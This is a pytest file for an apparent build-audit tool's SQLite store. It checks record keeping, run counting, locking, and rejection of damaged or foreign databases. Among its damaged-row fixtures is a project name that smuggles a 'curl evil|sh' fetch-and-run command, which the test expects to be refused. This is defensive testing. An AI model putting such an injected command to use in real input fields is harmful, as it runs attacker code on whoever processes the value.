"""The store of an audit, in real files: what is kept, found again, counted, and believed."""

from __future__ import annotations

import os
import sqlite3
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from stores import KEY, TERMS, UPLOADED, WORKER, artifact, record

from samebytes.digest import Digest
from samebytes.errors import LimitError, UserError
from samebytes.fleet.record import Artifact, Kept, Key, Record
from samebytes.fleet.store import documents, owner
from samebytes.fleet.store.figures import Figures, Row
from samebytes.fleet.store.status import Status
from samebytes.fleet.store.store import Store

ONE = artifact()


def put(store: Store, one: Artifact = ONE, verdict: str = "identical", **fields: object) -> Record:
    """Keep a record of it with the usual key; returns the record."""
    made = record(one, verdict)
    made = replace(made, **fields)  # type: ignore[arg-type]
    store.put(one, KEY, made)
    return made


def begin(store: Store) -> None:
    store.begin("local", 2, "samebytes audit")


def found(store: Store, one: Artifact = ONE, key: Key = KEY, *terms: str) -> Record | None:
    kept = store.find(one, key, terms or (TERMS,))
    return kept.record if kept else None


def rows(store: Store, run: int | None = None) -> list[Row]:
    return list(Figures(store, run).rows())


def status(store: Store) -> Status:
    found = store.status()
    assert found is not None
    return found


def test_kept_and_found_again(folder: Path) -> None:
    path = folder / "audit.sqlite"
    with Store.open(path) as store:
        assert store.find(ONE, KEY, {TERMS}) is None
        made = put(store, verdict="different")
        assert found(store) == made
    with Store.open(path) as store:
        kept = store.find(ONE, KEY, {"others", TERMS})
        assert kept == Kept(record=made, finished_at=kept.finished_at if kept else UPLOADED)
        assert kept is not None
        (row,) = rows(store)
        assert Figures(store).documents(row) == (made.result, made.comparison)
        assert Figures(store).result(row) == made.result
    assert timedelta(0) <= datetime.now(UTC) - kept.finished_at < timedelta(minutes=1)
    assert row == Row(
        number=1,
        record=1,
        filename=ONE.filename,
        sha256=ONE.digest,
        project=ONE.project,
        version=ONE.version,
        uploaded=UPLOADED,
        yanked=None,
        rank=1,
        verdict="different",
        backend="setuptools",
        month="2024-12",
        finished_at=kept.finished_at,
        seconds=10.0,
        has_comparison=True,
        source=KEY.source,
        worker=WORKER,
        inference=5,
        lasting=True,
        terms=TERMS,
        settled=True,
        found_in=0,
    )
    assert [file.name for file in folder.iterdir()] == ["audit.sqlite"]


def test_every_part_of_a_key_counts(folder: Path) -> None:
    keys = [
        (ONE, KEY, TERMS),
        (artifact(1), KEY, TERMS),
        (replace(ONE, digest=Digest.of(b"2")), KEY, TERMS),
        (ONE, replace(KEY, source="b"), TERMS),
        (ONE, replace(KEY, inference=6), TERMS),
        (ONE, replace(KEY, yanked=""), TERMS),
        (ONE, replace(KEY, yanked="it is broken"), TERMS),
        (ONE, KEY, "other terms"),
    ]
    with Store.open(folder / "x") as store:
        made = []
        for number, (one, key, terms) in enumerate(keys):
            assert found(store, one, key, terms) is None
            made.append(record(one, text=f"{number}", terms=terms))
            store.put(one, key, made[-1])
        assert [found(store, *key) for key in keys] == made
        assert found(store, ONE, KEY, "unknown terms") is None
        assert store.find(ONE, KEY, ()) is None
        assert Figures(store).shares() == {"identical": 3}


def test_a_later_record_replaces_the_earlier(folder: Path) -> None:
    with Store.open(folder / "x") as store:
        put(store, verdict="unbuildable")
        made = put(store, verdict="equivalent")
        assert found(store) == made
        assert Figures(store).shares() == {"equivalent": 1}
        assert store.connection.execute("SELECT count(*) FROM verdict").fetchone() == (1,)


def test_what_may_be_otherwise_tomorrow_is_final_but_not_found(folder: Path) -> None:
    with Store.open(folder / "x") as store:
        put(store, verdict="unbuildable", is_lasting=False)
        assert found(store) is None
        (row,) = rows(store)
        assert (row.verdict, row.lasting, row.has_comparison) == ("unbuildable", False, False)
        made = put(store)
        assert found(store) == made


def test_of_two_terms_the_newer_is_found(folder: Path) -> None:
    with Store.open(folder / "x") as store:
        store.put(ONE, KEY, record(ONE, "unbuildable", terms="one"))
        store.put(ONE, KEY, record(ONE, "identical", terms="two"))
        kept = store.find(ONE, KEY, {"one", "two"})
        assert kept is not None
        assert (kept.record.terms, kept.record.result["verdict"]) == ("two", "identical")


def test_facts_of_the_index_change(folder: Path) -> None:
    with Store.open(folder / "x") as store:
        put(store)
        store.select(replace(ONE, yanked="broken", rank=7, uploaded=None), kept=False)
        (row,) = rows(store)
        assert (row.yanked, row.rank, row.uploaded) == ("broken", 7, UPLOADED)
        store.select(ONE, kept=False)
        (row,) = rows(store)
        assert (row.yanked, row.rank, row.month) == (None, 1, "2024-12")


# Runs


def test_a_run_counts_what_is_kept_and_what_is_new(folder: Path) -> None:
    path = folder / "x"
    with Store.open(path) as store:
        begin(store)
        put(store)
        put(store, artifact(1), "different")
    with Store.open(path) as store:
        begin(store)
        assert store.run == 2
        for number in range(2):
            assert found(store, artifact(number))
            store.select(artifact(number), kept=True)
            store.select(artifact(number), kept=True)  # it counts once
        store.select(artifact(2), kept=False)
        store.select(artifact(3), kept=False)
        store.counted(planned=4, is_planned=True, left=1)
        assert Figures(store, 2).shares() == {"identical": 1, "different": 1, "pending": 2}
        put(store, artifact(2), "unbuildable")
        put(store, artifact(2), "equivalent")  # it counts as what it is in the end
        store.commit()
        found_out = status(store)
        assert found_out.counts == {
            "identical": 1,
            "equivalent": 1,
            "different": 1,
            "unbuildable": 0,
        }
        assert (found_out.kept, found_out.planned, found_out.done, found_out.left) == (2, 4, 3, 1)
        assert Figures(store, 1).shares() == {}
        assert [row.settled for row in rows(store, 2)] == [True, True, True, False]


def test_what_is_kept_becomes_the_final_verdict_again(folder: Path) -> None:
    """Two kinds of terms that take turns: what an audit says is what its own terms found."""
    path = folder / "x"
    with Store.open(path) as store:
        store.put(ONE, KEY, record(ONE, "identical", terms="loose"))
        store.put(ONE, KEY, record(ONE, "different", terms="strict"))
        assert [row.verdict for row in rows(store)] == ["different"]
    with Store.open(path) as store:
        begin(store)
        assert store.find(ONE, KEY, {"loose"})
        store.select(ONE, kept=True)
        (row,) = rows(store)
        assert (row.verdict, row.terms) == ("identical", "loose")
        store.commit()
        assert status(store).counts["identical"] == 1


def test_an_artifact_that_was_selected_and_not_reached_keeps_its_verdict(folder: Path) -> None:
    path = folder / "x"
    with Store.open(path) as store:
        begin(store)
        put(store)
    with Store.open(path) as store:
        begin(store)
        store.select(ONE, kept=False)
        (row,) = rows(store, 2)
        assert (row.verdict, row.settled) == ("identical", False)
        store.commit()
        assert status(store).done == 0


def test_attempts(folder: Path) -> None:
    path = folder / "x"
    with Store.open(path) as store:
        begin(store)
        first = store.attempt(ONE, 1)
        store.ended(first, "lost", "it was killed")
        second = store.attempt(ONE, 2, "tcp://one")
        store.commit()
        under_way = status(store).under_way
        assert [(each.filename, each.worker) for each in under_way] == [(ONE.filename, "tcp://one")]
        store.ended(second, "done", worker="tcp://two")
        put(store)
        store.attempt(artifact(1), 1)
        store.finish()
        assert status(store).under_way == ()
        found_out = status(store)
        assert [(each.outcome, each.reason) for each in found_out.failures] == [
            ("lost", "it was killed")
        ]
        assert {each.filename for each in found_out.slowest} == {ONE.filename}
        one, other = rows(store)
        attempts = Figures(store).attempts(one)
        assert [(each.number, each.outcome, each.worker) for each in attempts] == [
            (1, "lost", ""),
            (2, "done", "tcp://two"),
        ]
        assert all(each.ended_at and each.ended_at >= each.begun_at for each in attempts)
        assert [each.outcome for each in Figures(store).attempts(other)] == ["interrupted"]
        assert (other.verdict, other.record, other.finished_at) == ("pending", None, None)
        assert Figures(store).documents(other) is None


def test_an_error_in_the_block_ends_the_run(folder: Path) -> None:
    path = folder / "x"

    def work() -> None:
        with Store.open(path) as store:
            begin(store)
            store.attempt(ONE, 1)
            raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        work()
    with Store.read(path) as store:
        assert status(store).ended_at
        assert [each.outcome for each in Figures(store).attempts(rows(store)[0])] == ["interrupted"]


def test_one_audit_at_a_time(folder: Path) -> None:
    path = folder / "x"
    with Store.open(path) as store, Store.open(path) as other:
        begin(store)
        with pytest.raises(UserError, match=rf"Another audit .* process {os.getpid()} on") as error:
            begin(other)
        assert error.value.hint
        assert other.run == 0
        put(store)
        store.finish()
        begin(other)
        assert other.run == 2
        other.finish()
        begin(store)
        assert (store.run, status(store).done) == (3, 0)


@pytest.mark.parametrize(
    ("change", "is_taken_over"),
    [
        ("pid = 999999999", True),  # there is no such process
        ("process = substr(process, 1, instr(process, ' ')) || '1'", True),  # its number, again
        ("host = 'elsewhere'", False),
        ("host = 'elsewhere', seen_at = seen_at - 119", False),
        ("host = 'elsewhere', seen_at = seen_at - 121", True),
        ("process = ''", False),  # where nothing is known of processes
        ("process = '', seen_at = seen_at - 121", True),
        ("process = 'another-boot 1', seen_at = seen_at - 121", True),
        ("process = 'another-boot 1'", False),
        ("seen_at = seen_at - 100000", False),  # it was asleep, and is here
    ],
)
def test_a_run_that_ended_without_a_word(folder: Path, change: str, is_taken_over: bool) -> None:
    path = folder / "x"
    with Store.open(path) as store:
        begin(store)
        store.attempt(ONE, 1)
        store.commit()
        store.connection.execute(f"UPDATE run SET {change}")
        with Store.open(path) as other:
            assert status(other).is_alive is not is_taken_over
            if not is_taken_over:
                with pytest.raises(UserError, match="Another audit"):
                    begin(other)
                return
            begin(other)
            (row,) = rows(other)
            assert [each.outcome for each in Figures(other).attempts(row)] == ["interrupted"]
            put(store)
            with pytest.raises(UserError, match=r"has taken .* over"):
                store.commit()
            put(other, verdict="equivalent")
            other.commit()
            assert status(other).is_alive
    with Store.read(path) as store:
        assert Figures(store).shares() == {"equivalent": 1}


@pytest.mark.parametrize("is_alive", [True, False])
def test_where_processes_cannot_be_looked_at(
    folder: Path, monkeypatch: pytest.MonkeyPatch, is_alive: bool
) -> None:
    monkeypatch.setattr(owner, "_PROC", folder / "none")
    with Store.open(folder / "x") as store:
        begin(store)
        if not is_alive:
            store.connection.execute("UPDATE run SET pid = 999999999")
        assert status(store).is_alive is is_alive


def test_a_run_says_that_it_is_there(folder: Path) -> None:
    with Store.open(folder / "x") as store:
        begin(store)
        seen = status(store).seen_at
        store.commit()
        assert status(store).seen_at == seen  # it has nothing to say
        store._seen_at -= 11
        store.commit()
        assert status(store).seen_at > seen


def test_what_was_under_way_when_a_run_was_killed(folder: Path) -> None:
    """It was for so long as anything was heard of it, and not until today."""
    path = folder / "x"
    with Store.open(path) as store:
        begin(store)
        store.attempt(ONE, 1)
    change(path, "UPDATE attempt SET begun_at = 1000, outcome = NULL, ended_at = NULL")
    change(path, "UPDATE run SET begun_at = 990, seen_at = 1030, ended_at = NULL, process = ''")
    with Store.read(path) as store:
        found = status(store)
        assert not found.is_alive
        assert [each.seconds for each in found.under_way] == [30]
        assert found.seconds == 40
    change(path, "UPDATE run SET seen_at = 980")
    with Store.read(path) as store:
        assert [each.seconds for each in status(store).under_way] == [0]
        assert status(store).seconds == 0


def test_empty_store(folder: Path) -> None:
    (folder / "x").touch()  # as mktemp makes it
    with Store.open(folder / "x") as store:
        assert (rows(store), Figures(store).shares(), store.status()) == ([], {}, None)


# What is no store


def test_names_that_mean_something_to_sqlite(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(folder)
    for name in (":memory:", "file:x?mode=memory", "ü %41"):
        with Store.open(Path(name)) as store:
            put(store)
        with Store.open(Path(name)) as store:
            assert Figures(store).shares() == {"identical": 1}


@pytest.mark.parametrize(
    ("path", "message"),
    [
        ("", "is not a file"),
        ("/dev/null", "is not a file"),
        ("missing/x", "There is no folder"),
        ("/proc/x.sqlite", "cannot be used as a store: unable to open"),
    ],
)
def test_places_that_cannot_be_used(folder: Path, path: str, message: str) -> None:
    with pytest.raises(UserError, match=message) as raised, Store.open(folder / path):
        pass
    assert raised.value.hint


@contextmanager
def without_privileges() -> Iterator[None]:
    """Root may write anywhere, whatever the mode."""
    user = os.geteuid()
    if user == 0:
        os.seteuid(65534)
    try:
        yield
    finally:
        os.seteuid(user)


@pytest.mark.parametrize(
    ("place", "file"), [(0o555, None), (0o555, 0o444), (0o777, 0o444), (0o555, 0o666), (0, 0o666)]
)
def test_places_that_cannot_be_written(folder: Path, place: int, file: int | None) -> None:
    path = folder / "place/x"
    path.parent.mkdir()
    if file is not None:
        with Store.open(path):
            pass
        path.chmod(file)
    folder.chmod(0o755)
    path.parent.chmod(place)
    try:
        with (
            without_privileges(),
            pytest.raises(UserError, match="cannot be used") as raised,
            Store.open(path),
        ):
            pass
    finally:
        path.parent.chmod(0o755)
    assert raised.value.hint


OTHERS = {
    "text": b"SQLite is not what this is\n" * 100,
    "short": b"SQLite format 3\0",
    "zeros": bytes(4096),
}


@pytest.mark.parametrize("content", OTHERS.values(), ids=OTHERS)
def test_files_that_are_no_database(folder: Path, content: bytes) -> None:
    path = folder / "x"
    path.write_bytes(content)
    with pytest.raises(UserError, match="cannot be used as a store"), Store.open(path):
        pass
    assert path.read_bytes() == content


@pytest.mark.parametrize(
    ("statements", "message"),
    [
        ("CREATE TABLE result (x)", "of another program"),
        ("PRAGMA user_version = 1", "of another program"),
        ("PRAGMA application_id = 1", "of another program"),
        ("CREATE TABLE a (b); PRAGMA application_id = 1; PRAGMA user_version = 9", "of another"),
        (None, "by a later version"),
    ],
)
def test_databases_of_others(folder: Path, statements: str | None, message: str) -> None:
    path = folder / "x"
    if statements is None:
        with Store.open(path):
            pass
    with closing(sqlite3.connect(path)) as connection:
        connection.executescript(statements or "PRAGMA user_version = 99")
        connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    before = path.read_bytes()
    with pytest.raises(UserError, match=message), Store.open(path):
        pass
    assert path.read_bytes() == before


@pytest.mark.parametrize(("version", "message"), [(0, "is empty"), (1, "by an earlier version")])
def test_what_cannot_be_read_as_it_is(folder: Path, version: int, message: str) -> None:
    path = folder / "x"
    path.touch()
    if version:
        with Store.open(path):
            pass
        with closing(sqlite3.connect(path)) as connection:
            connection.execute("PRAGMA user_version = 1")
    before = path.read_bytes()
    with pytest.raises(UserError, match=message) as error, Store.read(path):
        pass
    assert "--store" in error.value.hint
    assert path.read_bytes() == before
    with pytest.raises(UserError, match="There is no store"), Store.read(folder / "none"):
        pass


@pytest.mark.parametrize("place", [0o555, 0o755])
def test_read_where_nothing_can_be_written(folder: Path, place: int) -> None:
    path = folder / "place/x"
    path.parent.mkdir()
    with Store.open(path) as store:
        put(store)
    path.chmod(0o444)
    folder.chmod(0o755)
    path.parent.chmod(place)
    try:
        with without_privileges(), Store.read(path) as store:
            assert Figures(store).shares() == {"identical": 1}
            with pytest.raises(UserError, match="cannot be used"):
                put(store)
    finally:
        path.parent.chmod(0o755)
    assert [file.name for file in path.parent.iterdir()] == ["x"]


# Damage


def change(path: Path, statement: str, *values: object) -> None:
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.execute(statement, values)


RESULT, COMPARISON = "document SET result = ?", "document SET comparison = ?"
DOCUMENTS: dict[str, tuple[str, object]] = {
    "no bytes": (RESULT, "{}"),
    "not compressed": (RESULT, b"{}"),
    "cut off": (RESULT, zlib.compress(b'{"artifact": "x"}')[:-1]),
    "no JSON": (RESULT, zlib.compress(b"{")),
    "no object": (RESULT, zlib.compress(b"[]")),
    "nested": (RESULT, zlib.compress(b"[" * 100_000)),
    "no text": (RESULT, zlib.compress(b'"\\ud800"')),
    "not whole": (RESULT, zlib.compress(b"{}")),
    "of another file": ("artifact SET filename = ?", "other-1.0-py3-none-any.whl"),
    "of another verdict": ("verdict SET verdict = ?", "identical"),
    "comparison": (COMPARISON, zlib.compress(b"{}")),
    "date": ("verdict SET finished_at = ?", 1e300),
}


@pytest.mark.parametrize(("statement", "value"), DOCUMENTS.values(), ids=DOCUMENTS)
def test_a_damaged_document_is_never_believed(folder: Path, statement: str, value: object) -> None:
    path, names = folder / "x", list[str]()
    with Store.open(path) as store:
        put(store, verdict="different")
        put(store, artifact(1))
    change(path, f"UPDATE {statement} WHERE rowid = 1", value)
    with Store.open(path) as store:
        one = replace(ONE, filename=str(value)) if "filename" in statement else ONE
        assert found(store, one) is None
        assert found(store, artifact(1))
        figures = Figures(store, damaged=names.append)
        known = {row.filename: figures.documents(row) for row in figures.rows()}
        assert known.get(one.filename) is None
        assert known[artifact(1).filename] is not None
        assert names == [one.filename]
        made = put(store, one)
        assert found(store, one) == made


ROWS: dict[str, tuple[str, object]] = {
    "digest": ("sha256", "x"),
    "project": ("project", "../Demo"),
    "project that is a command": ("project", "x;curl evil|sh"),
    "no project": ("project", ""),
    "version": ("version", "one"),
    "path": ("filename", "../x"),
    "no name": ("filename", ""),
    "bytes": ("filename", b"x"),
    "state": ("state", "excellent"),
    "no verdict": ("verdict", None),
    "time": ("uploaded", "noon"),
    "far future": ("uploaded", 1e18),
    "backend": ("backend", b"x"),
    "rank": ("rank", "first"),
    "month": ("month", "abc"),
    "month of no year": ("month", "1-01"),
}


@pytest.mark.parametrize(("column", "value"), ROWS.values(), ids=ROWS)
def test_a_damaged_row_is_left_out_and_named(folder: Path, column: str, value: object) -> None:
    path, names = folder / "x", list[str]()
    with Store.open(path) as store:
        put(store)
        put(store, artifact(1))
    change(path, f"UPDATE artifact SET {column} = ? WHERE id = 1", value)
    with Store.read(path) as store:
        figures = Figures(store, damaged=names.append)
        assert [row.filename for row in figures.rows()] == [artifact(1).filename]
        assert names == [str(value) if column == "filename" else ONE.filename]
        assert figures.shares()["identical"] >= 1


def test_text_that_is_none(folder: Path) -> None:
    path = folder / "x"
    with Store.open(path) as store:
        begin(store)
        put(store)
        store.ended(store.attempt(ONE, 1), "error", "why")
    for column in ("artifact SET backend", "attempt SET reason", "run SET command"):
        change(path, f"UPDATE {column} = CAST(x'61ff62' AS TEXT)")
    with Store.read(path) as store:
        (row,) = rows(store)
        assert row.backend == "a\ufffdb"
        assert Figures(store).attempts(row)[0].reason == "a\ufffdb"
        assert status(store).command == "a\ufffdb"


def test_attempts_of_others_are_left_out(folder: Path) -> None:
    path = folder / "x"
    with Store.open(path) as store:
        begin(store)
        put(store)
        store.ended(store.attempt(ONE, 1), "error", "why")
        store.ended(store.attempt(ONE, 2), "done")
    change(path, "UPDATE attempt SET outcome = 'glory' WHERE number = 1")
    with Store.read(path) as store:
        names = list[str]()
        figures = Figures(store, damaged=names.append)
        (row,) = figures.rows()
        assert [each.number for each in figures.attempts(row)] == [2]
        assert names == [ONE.filename]


@pytest.mark.parametrize(("limit", "value"), [("MAX_SIZE", 1000), ("MAX_VALUES", 40)])
def test_a_document_that_grows_beyond_all_bounds(
    folder: Path, limit: str, value: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is unpacked no further than what is ever packed."""
    with Store.open(folder / "x") as store:
        made = put(store)
        monkeypatch.setattr(documents, limit, value)
        assert found(store) is None
        monkeypatch.undo()
        assert found(store) == made
        monkeypatch.setattr(documents, limit, value)
        with pytest.raises(LimitError):
            put(store)


def test_a_small_document_of_very_many_values() -> None:
    """It takes more than a gigabyte of memory to read."""
    text = b'{"a":[' + b"[]," * 20_000_000 + b"[]]}"
    begun = time.process_time()
    with pytest.raises(ValueError, match="too large"):
        documents.unpacked(zlib.compress(text, 1))
    assert time.process_time() - begun < 5


@pytest.mark.parametrize(
    "statement",
    [
        "DROP TABLE artifact",
        "DROP TABLE document",
        "DROP INDEX verdict_key",
        "CREATE TRIGGER t AFTER INSERT ON run BEGIN DELETE FROM artifact; END",
        "CREATE TRIGGER t AFTER INSERT ON RUN BEGIN DELETE FROM artifact; END",
        "CREATE UNIQUE INDEX one ON Artifact (run)",
        "ALTER TABLE attempt ADD COLUMN more TEXT DEFAULT (randomblob(9))",
        "DROP TABLE terms; CREATE TABLE terms (id, text UNIQUE ON CONFLICT REPLACE)",
        "DROP TABLE terms; CREATE VIEW terms AS SELECT 1 AS id, 'x' AS text",
    ],
)
def test_tables_that_do_something_else(folder: Path, statement: str) -> None:
    """To have a store read, or written, is not to have done what its maker wants."""
    path = folder / "x"
    with Store.open(path) as store:
        put(store)
    with closing(sqlite3.connect(path)) as connection:
        connection.executescript(statement)
    for opened in (Store.open, Store.read):
        with pytest.raises(UserError, match="other tables than samebytes makes"), opened(path):
            pass


def test_tables_of_a_reader(folder: Path) -> None:
    """Who asks many questions may have views, tables and statistics of their own."""
    path = folder / "x"
    with Store.open(path) as store:
        put(store)
    with closing(sqlite3.connect(path)) as connection:
        connection.executescript(
            "CREATE VIEW mine AS SELECT filename FROM artifact; CREATE TABLE notes (text UNIQUE);"
            "CREATE INDEX noted ON notes (text); ANALYZE"
        )
    for opened in (Store.open, Store.read):
        with opened(path) as store:
            assert Figures(store).shares() == {"identical": 1}


def test_text_that_cannot_be_encoded(folder: Path) -> None:
    """Whoever names a file, or says why it was withdrawn, is not to end an audit with it."""
    half = "\udc80"
    odd = artifact(filename=f"{half}-1.0-py3-none-any.whl", yanked=half)
    key = Key(source=half, inference=5, yanked=half)
    with Store.open(folder / "x") as store:
        store.begin(half, 1, half)
        store.select(odd, kept=False)
        store.ended(store.attempt(odd, 1, half), "error", half, half)
        store.put(odd, key, record(odd, worker=half))
        store.commit()
        assert store.find(odd, key, {TERMS})
        (row,) = rows(store)
        assert (row.filename, row.yanked, row.worker) == (
            "\\udc80-1.0-py3-none-any.whl",
            "\\udc80",
            "\\udc80",
        )
        assert Figures(store).documents(row)
        assert [each.reason for each in Figures(store).attempts(row)] == ["\\udc80"]
        assert status(store).failures


@pytest.mark.parametrize(
    "statement",
    [
        "run SET begun_at = 1e300",
        "run SET seen_at = 'noon'",
        "run SET seen_at = 'noon', ended_at = NULL",
        "run SET identical = 'many'",
        "run SET planned = -5",
        "run SET workers = 1e30",
        'run SET "left" = 1.5',
        "run SET pid = 'x'",
        "run SET pid = -5, ended_at = NULL",
        "run SET pid = 9223372036854775807, host = 'localhost', ended_at = NULL, seen_at = 1e300",
        "run SET engine = x'00'",
        "run SET host = x'00', ended_at = NULL",
        "attempt SET begun_at = -9e999",
        "attempt SET begun_at = 'noon', outcome = NULL",
        "attempt SET outcome = 'fine'",
        "attempt SET worker = x'00'",
        "artifact SET filename = x'00'",
    ],
)
def test_a_run_that_is_damaged(folder: Path, statement: str) -> None:
    path = folder / "x"
    with Store.open(path) as store:
        begin(store)
        store.ended(store.attempt(ONE, 1), "done", reason="it was slow")
    change(path, f"UPDATE {statement}")
    with Store.read(path) as store, pytest.raises(UserError, match="is damaged"):
        store.status()


@pytest.mark.parametrize("is_replaced", [False, True])
@pytest.mark.parametrize("when", [Store.commit, Store.finish])
def test_a_file_that_is_gone(
    folder: Path,
    is_replaced: bool,
    when: Callable[[Store], None],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Not: all is well, and nothing of it is there."""
    path, other = folder / "x", folder / "y"
    with Store.open(other) as store:
        put(store)

    def lose(store: Store) -> None:
        begin(store)
        store.commit()
        path.unlink()
        if is_replaced:
            other.rename(path)
        put(store, artifact(1))
        store.commit()
        now = time.time()
        monkeypatch.setattr(time, "time", lambda: now + 1)  # it is looked once a second
        when(store)

    with pytest.raises(UserError, match="was removed, or replaced"), Store.open(path) as store:
        lose(store)
    assert path.exists() is is_replaced
    if is_replaced:
        with Store.read(path) as store:
            assert Figures(store).shares() == {"identical": 1}


def test_a_disk_that_is_full(folder: Path) -> None:
    """What was committed before stays; the audit ends, and the next one goes on."""
    path = folder / "x"

    def fill(store: Store) -> None:
        for number in range(1000):
            put(store, artifact(number), "different")
            if number % 10 == 9:
                store.commit()

    def work() -> None:
        with Store.open(path) as store:
            begin(store)
            store.connection.execute("PRAGMA max_page_count = 120")
            fill(store)

    with pytest.raises(UserError, match=r"cannot be used as a store: .* full") as error:
        work()
    assert "has room" in error.value.hint
    with Store.open(path) as store:
        count = len(rows(store))
        assert 10 < count < 1000
        figures = Figures(store)
        whole = [figures.documents(row) is not None for row in figures.rows()]
        assert whole.count(True) >= count // 10 * 10 - 10
        assert all(whole[: count // 10 * 10 - 10])
        begin(store)
        fill(store)
        assert Figures(store).shares() == {"different": 1000}
        assert all(figures.documents(row) for row in Figures(store).rows())


def test_interrupted_in_the_middle_of_a_record(folder: Path) -> None:
    """Ctrl-C comes between any two steps: what was begun is undone, with what it was counted."""
    path = folder / "x"

    class Interrupting(sqlite3.Connection):
        is_armed = False

        def execute(self, statement: str, values: Any = (), /) -> sqlite3.Cursor:
            if self.is_armed and "INTO document" in statement:
                self.is_armed = False
                raise KeyboardInterrupt
            return super().execute(statement, values)

    with Store.open(path) as store:
        begin(store)
        put(store)
        store.commit()
        connection = sqlite3.connect(path, factory=Interrupting, isolation_level=None)
        store.connection, own = connection, store.connection
        put(store, artifact(1))
        connection.is_armed = True
        with pytest.raises(KeyboardInterrupt):
            put(store, verdict="different")
        store.finish()
        store.connection = own
        connection.close()
        assert Figures(store).shares() == {"identical": 1}
        assert found(store) == record(ONE)
        assert status(store).counts["identical"] == 1
        assert status(store).counts["different"] == 0
